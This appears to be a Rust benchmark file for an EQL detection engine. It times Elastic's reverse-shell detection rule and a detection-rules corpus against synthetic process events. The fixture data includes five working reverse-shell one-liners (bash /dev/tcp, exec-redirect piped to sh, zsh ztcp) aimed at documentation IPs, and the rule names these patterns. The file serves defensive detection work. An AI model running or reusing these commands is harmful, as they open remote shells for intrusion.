//! EQL evaluation throughput.
//!
//! - `seed/*`: Elastic's "Potential Reverse Shell Activity via Terminal" over a mix of typical
//!   exec events (mostly benign, a few shells, a few reverse shells), as typed `ProcessEvent`s
//!   and as `JsonDocument`s, against two baselines measured in the same run: a trivial rule
//!   (`process.name == "x"`) and a hand-written loop reading the same fields.
//! - `corpus/*`: every single-event rule of a detection-rules checkout (`DETECTION_RULES_DIR`,
//!   default `/work/detection-rules/rules`) compiled once, then evaluated on each event through
//!   category dispatch (only rules of the event's categories, plus `any where` rules); and the
//!   same with rules that pin `process.name` ([`Program::requirement`]) indexed by that name.

use std::collections::HashMap;
use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use execsentry::eql::{compile_str, Options, Program};
use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
use execsentry::{Document, FieldPath, JsonDocument, Scalar};

const SEED: &str = r#"process where event.type in ("start", "process_started") and
  process.name in ("sh", "bash", "zsh", "dash", "zmodload") and
  process.args : ("*/dev/tcp/*", "*/dev/udp/*", "*zsh/net/tcp*", "*zsh/net/udp*") and
  /* noisy FPs */
  not (process.parent.name : "timeout" and process.executable : "/var/lib/docker/overlay*") and
  not process.command_line : (
    "*/dev/tcp/sirh_db/*", "*/dev/tcp/remoteiot.com/*", "*dev/tcp/elk.stag.one/*", "*dev/tcp/kafka/*",
    "*/dev/tcp/$0/$1*", "*/dev/tcp/127.*", "*/dev/udp/127.*", "*/dev/tcp/localhost/*", "*/dev/tcp/itom-vault/*") and
  not process.parent.command_line : "runc init""#;

fn event(
    exe: &str,
    args: &[&str],
    parent: &Arc<ProcessInfo>,
    host: &Arc<HostInfo>,
) -> ProcessEvent {
    let mut p = ProcessInfo {
        pid: 4242,
        ppid: parent.pid,
        executable: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        working_directory: Some("/home/dev/src".into()),
        ids: Arc::new(Ids {
            user_id: "1000".into(),
            user_name: Some("dev".into()),
            ..Default::default()
        }),
        ..Default::default()
    };
    p.derive_names();
    ProcessEvent {
        timestamp_ns: 1_700_000_000_000_000_000,
        sequence: 1,
        action: Action::Exec,
        process: Arc::new(p),
        parent: Some(parent.clone()),
        host: host.clone(),
        source: SourceFacts::Audit {
            session: Some("3".into()),
            audit_user_id: Some("1000".into()),
            key: Some("execsentry".into()),
            syscall: "execve",
            failed: false,
        },
    }
}

/// 100 events: 85 benign commands, 10 benign shells, 5 reverse shells.
fn mix() -> Vec<ProcessEvent> {
    let host = Arc::new(HostInfo {
        name: "build-7".into(),
        hostname: "build-7".into(),
        os_type: "linux".into(),
        ..Default::default()
    });
    let proc_of = |exe: &str, args: &[&str]| {
        let mut p = ProcessInfo {
            pid: 100,
            ppid: 1,
            executable: exe.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        };
        p.derive_names();
        Arc::new(p)
    };
    let bash_parent = proc_of("/usr/bin/bash", &["-bash"]);
    let sshd = proc_of("/usr/sbin/sshd", &["sshd:", "dev@pts/0"]);
    let cron = proc_of("/usr/sbin/cron", &["/usr/sbin/cron", "-f"]);
    let benign: &[(&str, &[&str])] = &[
        ("/usr/bin/ls", &["ls", "--color=auto", "-la"]),
        ("/usr/bin/git", &["git", "status"]),
        (
            "/usr/bin/python3",
            &["python3", "-m", "pytest", "tests/test_api.py", "-q"],
        ),
        ("/usr/bin/cat", &["cat", "/etc/os-release"]),
        ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"]),
        ("/usr/bin/make", &["make", "-j8", "all"]),
        (
            "/usr/bin/gcc",
            &["gcc", "-O2", "-c", "main.c", "-o", "main.o"],
        ),
        (
            "/usr/bin/node",
            &[
                "node",
                "/usr/lib/node_modules/npm/bin/npm-cli.js",
                "install",
            ],
        ),
        ("/usr/bin/systemctl", &["systemctl", "status", "nginx"]),
        (
            "/usr/bin/curl",
            &["curl", "-sS", "https://example.com/health"],
        ),
        ("/usr/bin/ssh", &["ssh", "deploy@10.0.0.5", "uptime"]),
        ("/usr/bin/vim", &["vim", "README.md"]),
        ("/usr/bin/ps", &["ps", "aux"]),
        ("/usr/bin/sed", &["sed", "-i", "s/foo/bar/g", "config.ini"]),
        (
            "/usr/bin/tar",
            &["tar", "czf", "backup.tgz", "/home/dev/src"],
        ),
        ("/usr/bin/find", &["find", ".", "-name", "*.rs"]),
        ("/usr/bin/docker", &["docker", "ps", "-a"]),
    ];
    let shells: &[(&str, &[&str])] = &[
        ("/usr/bin/bash", &["bash", "-c", "echo hello && date"]),
        ("/usr/bin/sh", &["sh", "/etc/cron.daily/logrotate"]),
        ("/usr/bin/zsh", &["zsh", "-l"]),
        (
            "/usr/bin/dash",
            &["dash", "-c", "run-parts /etc/update-motd.d"],
        ),
        ("/usr/bin/bash", &["bash", "./build.sh", "--release"]),
    ];
    let reverse: &[(&str, &[&str])] = &[
        (
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        ),
        (
            "/usr/bin/sh",
            &[
                "sh",
                "-c",
                "exec 5<>/dev/tcp/198.51.100.7/8080;cat <&5 | sh",
            ],
        ),
        (
            "/usr/bin/zsh",
            &["zsh", "-c", "zmodload zsh/net/tcp && ztcp 192.0.2.1 9001"],
        ),
        (
            "/usr/bin/bash",
            &["bash", "-c", "sh -i >& /dev/udp/203.0.113.9/53 0>&1"],
        ),
        (
            "/usr/bin/dash",
            &["dash", "-c", "cat </dev/tcp/203.0.113.9/1337"],
        ),
    ];
    let mut out = Vec::with_capacity(100);
    for i in 0..85 {
        let (exe, args) = benign[i % benign.len()];
        let parent = [&bash_parent, &sshd, &cron][i % 3];
        out.push(event(exe, args, parent, &host));
    }
    for i in 0..10 {
        let (exe, args) = shells[i % shells.len()];
        out.push(event(exe, args, [&sshd, &cron][i % 2], &host));
    }
    for (exe, args) in reverse {
        out.push(event(exe, args, &sshd, &host));
    }
    // Interleave so the branch predictor sees a realistic mix.
    let mut shuffled = Vec::with_capacity(out.len());
    let n = out.len();
    for i in 0..n {
        shuffled.push(out[(i * 37) % n].clone());
    }
    shuffled
}

fn as_json(e: &ProcessEvent) -> JsonDocument {
    match e.to_json() {
        serde_json::Value::Object(m) => JsonDocument::new(m),
        _ => unreachable!(),
    }
}

fn compile(q: &str) -> Program {
    compile_str(q, &Options::default()).unwrap_or_else(|e| panic!("{}", e[0].render(q)))
}

/// Roughly what the seed rule does, written plainly by hand against the same `Document` API
/// (per-call folding, no precompiled matchers): what a straightforward interpreter costs.
fn hand_seed<D: Document>(d: &D, f: &HandFields) -> bool {
    let is = |field: &FieldPath, want: &[&str]| {
        d.values(field)
            .any(|v| matches!(v, Scalar::Str(s) if want.contains(&s)))
    };
    let contains_ci = |field: &FieldPath, needles: &[&str]| {
        d.values(field).any(|v| match v {
            Scalar::Str(s) => needles.iter().any(|n| {
                s.as_bytes()
                    .windows(n.len())
                    .any(|w| w.eq_ignore_ascii_case(n.as_bytes()))
            }),
            _ => false,
        })
    };
    is(&f.category, &["process"])
        && is(&f.event_type, &["start", "process_started"])
        && is(&f.name, &["sh", "bash", "zsh", "dash", "zmodload"])
        && contains_ci(
            &f.args,
            &["/dev/tcp/", "/dev/udp/", "zsh/net/tcp", "zsh/net/udp"],
        )
        && !contains_ci(&f.command_line, &["/dev/tcp/127.", "/dev/tcp/localhost/"])
}

struct HandFields {
    category: FieldPath,
    event_type: FieldPath,
    name: FieldPath,
    args: FieldPath,
    command_line: FieldPath,
}

fn seed(c: &mut Criterion) {
    let typed = mix();
    let json: Vec<JsonDocument> = typed.iter().map(as_json).collect();
    let seed = compile(SEED);
    let trivial = compile(r#"process where process.name == "x""#);
    let hand = HandFields {
        category: FieldPath::new("event.category"),
        event_type: FieldPath::new("event.type"),
        name: FieldPath::new("process.name"),
        args: FieldPath::new("process.args"),
        command_line: FieldPath::new("process.command_line"),
    };
    assert_eq!(typed.iter().filter(|e| seed.matches(*e)).count(), 5);
    assert_eq!(json.iter().filter(|e| seed.matches(*e)).count(), 5);

    let mut g = c.benchmark_group("seed");
    g.throughput(Throughput::Elements(typed.len() as u64));
    g.bench_function("typed/trivial_rule", |b| {
        b.iter(|| {
            typed
                .iter()
                .filter(|e| trivial.matches(black_box(*e)))
                .count()
        })
    });
    g.bench_function("typed/hand_loop", |b| {
        b.iter(|| {
            typed
                .iter()
                .filter(|e| hand_seed(black_box(*e), &hand))
                .count()
        })
    });
    g.bench_function("typed/seed_rule", |b| {
        b.iter(|| typed.iter().filter(|e| seed.matches(black_box(*e))).count())
    });
    g.bench_function("json/trivial_rule", |b| {
        b.iter(|| {
            json.iter()
                .filter(|e| trivial.matches(black_box(*e)))
                .count()
        })
    });
    g.bench_function("json/seed_rule", |b| {
        b.iter(|| json.iter().filter(|e| seed.matches(black_box(*e))).count())
    });
    g.finish();
}

fn rule_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            rule_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "toml") {
            out.push(p);
        }
    }
}

/// Single-event rules of the corpus, compiled: by category, and the `any where` ones.
type Corpus = (HashMap<String, Vec<Program>>, Vec<Program>);

fn corpus() -> Option<Corpus> {
    let dir = std::env::var_os("DETECTION_RULES_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/work/detection-rules/rules"));
    let mut files = Vec::new();
    for sub in ["linux", "macos", "cross-platform"] {
        rule_files(&dir.join(sub), &mut files);
    }
    if files.is_empty() {
        return None;
    }
    let mut by_cat: HashMap<String, Vec<Program>> = HashMap::new();
    let mut any = Vec::new();
    let mut n = 0;
    for f in files {
        let Ok(text) = std::fs::read_to_string(&f) else {
            continue;
        };
        let Ok(doc) = text.parse::<toml::Table>() else {
            continue;
        };
        let Some(rule) = doc.get("rule").and_then(|r| r.as_table()) else {
            continue;
        };
        if rule.get("language").and_then(|l| l.as_str()) != Some("eql") {
            continue;
        }
        let Some(q) = rule.get("query").and_then(|q| q.as_str()) else {
            continue;
        };
        if let Ok(p) = compile_str(q, &Options::default()) {
            n += 1;
            match p.category() {
                Some(cat) => by_cat.entry(cat.to_owned()).or_default().push(p),
                None => any.push(p),
            }
        }
    }
    eprintln!("corpus: {n} single-event rules compiled");
    Some((by_cat, any))
}

fn corpus_bench(c: &mut Criterion) {
    let Some((by_cat, any)) = corpus() else {
        eprintln!("corpus: no rules found; skipping");
        return;
    };
    let typed = mix();
    let cat_field = FieldPath::new("event.category");
    let dispatch = |e: &ProcessEvent| -> usize {
        let mut hits = 0;
        e.values(&cat_field).any(|v| {
            if let Scalar::Str(cat) = v {
                if let Some(rules) = by_cat.get(cat) {
                    hits += rules.iter().filter(|r| r.matches_condition(e)).count();
                }
            }
            false
        });
        hits + any.iter().filter(|r| r.matches_condition(e)).count()
    };
    let process_rules = by_cat.get("process").map_or(0, Vec::len);
    eprintln!(
        "corpus: {process_rules} process rules, {} any rules",
        any.len()
    );

    // Index process rules by the process.name values they require (ASCII-lowercased keys;
    // a case-sensitive rule still checks the exact name itself).
    let name_field = FieldPath::new("process.name");
    let process = by_cat.get("process").map(Vec::as_slice).unwrap_or(&[]);
    let mut by_name: HashMap<String, Vec<&Program>> = HashMap::new();
    let mut unindexed: Vec<&Program> = Vec::new();
    for p in process {
        match p.requirement("process.name") {
            Some(req) => {
                for v in req.values {
                    by_name.entry(v.to_ascii_lowercase()).or_default().push(p);
                }
            }
            None => unindexed.push(p),
        }
    }
    eprintln!(
        "corpus: {} of {} process rules indexed by process.name",
        process.len() - unindexed.len(),
        process.len()
    );
    let indexed = |e: &ProcessEvent| -> usize {
        let mut hits = unindexed.iter().filter(|r| r.matches_condition(e)).count();
        let mut key = [0u8; 64];
        e.values(&name_field).any(|v| {
            if let Scalar::Str(name) = v {
                let long;
                let k = match key.get_mut(..name.len()) {
                    Some(k) => {
                        k.copy_from_slice(name.as_bytes());
                        k.make_ascii_lowercase();
                        std::str::from_utf8(k).unwrap_or("")
                    }
                    None => {
                        long = name.to_ascii_lowercase();
                        &long
                    }
                };
                if let Some(rules) = by_name.get(k) {
                    hits += rules.iter().filter(|r| r.matches_condition(e)).count();
                }
            }
            false
        });
        hits + any.iter().filter(|r| r.matches_condition(e)).count()
    };
    let all: usize = typed.iter().map(&dispatch).sum();
    assert_eq!(
        all,
        typed.iter().map(&indexed).sum::<usize>(),
        "the index must not change verdicts"
    );

    let mut g = c.benchmark_group("corpus");
    g.throughput(Throughput::Elements(typed.len() as u64));
    g.bench_function("typed/all_rules_per_event", |b| {
        b.iter(|| typed.iter().map(|e| dispatch(black_box(e))).sum::<usize>())
    });
    g.bench_function("typed/name_indexed_per_event", |b| {
        b.iter(|| typed.iter().map(|e| indexed(black_box(e))).sum::<usize>())
    });
    g.finish();
}

criterion_group!(benches, seed, corpus_bench);
criterion_main!(benches);
